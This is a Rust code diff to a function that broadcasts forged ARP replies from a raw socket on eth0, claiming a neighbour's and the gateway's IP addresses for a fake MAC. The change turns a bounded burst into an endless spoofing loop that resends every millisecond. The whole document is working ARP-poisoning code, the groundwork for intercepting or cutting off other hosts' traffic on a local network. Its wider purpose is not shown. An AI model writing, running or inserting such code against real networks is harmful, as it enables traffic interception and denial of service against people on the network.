@@ -2,22 +2,20 @@
 
 use std::io::Write as _;
 use std::net::Ipv4Addr;
+use std::time::Duration;
 
 use nix::libc;
 
-/// Claims a neighbour's and the gateway's addresses for itself, by a thousand ARP answers to
-/// everyone, and says how many the kernel took.
-pub(super) fn forge(address: &str, gateway: &str) {
+/// Claims a neighbour's and the gateway's addresses for itself, by ARP answers to everyone, over
+/// and over.
+pub(super) fn forge(address: &str, gateway: &str) -> ! {
     let victims: [Ipv4Addr; 2] = [address.parse().unwrap(), gateway.parse().unwrap()];
     // SAFETY: the call takes three numbers.
     let socket = unsafe {
         let every = i32::from(u16::try_from(libc::ETH_P_ALL).unwrap().to_be());
         libc::socket(libc::AF_PACKET, libc::SOCK_RAW, every)
     };
-    if socket < 0 {
-        println!("socket {:?}", nix::errno::Errno::last());
-        return;
-    }
+    assert!(socket >= 0, "{}", nix::errno::Errno::last());
     // SAFETY: the name is zero-terminated.
     let index = unsafe { libc::if_nametoindex(c"eth0".as_ptr()) };
     // SAFETY: plain numbers, for which zero is a value.
@@ -26,12 +24,12 @@ pub(super) fn forge(address: &str, gateway: &str) {
     to.sll_ifindex = i32::try_from(index).unwrap();
     to.sll_halen = 6;
     to.sll_addr[..6].copy_from_slice(&[0xFF; 6]);
-    let mut sent = 0;
-    for _ in 0..500 {
+    let mut forging = false;
+    loop {
         for victim in victims {
             let frame = arp_answer(victim);
             // SAFETY: frame and address are as long as they are said to be.
-            let length = unsafe {
+            let sent = unsafe {
                 libc::sendto(
                     socket,
                     frame.as_ptr().cast(),
@@ -41,11 +39,14 @@ pub(super) fn forge(address: &str, gateway: &str) {
                     u32::try_from(size_of_val(&to)).unwrap(),
                 )
             };
-            sent += i32::from(length > 0);
+            if sent > 0 && !forging {
+                println!("forging");
+                std::io::stdout().flush().unwrap();
+                forging = true;
+            }
         }
+        std::thread::sleep(Duration::from_millis(1));
     }
-    println!("sent {sent}");
-    std::io::stdout().flush().unwrap();
 }
 
 /// "`victim` is at 02:66:66:66:66:66", to everyone (RFC 826).
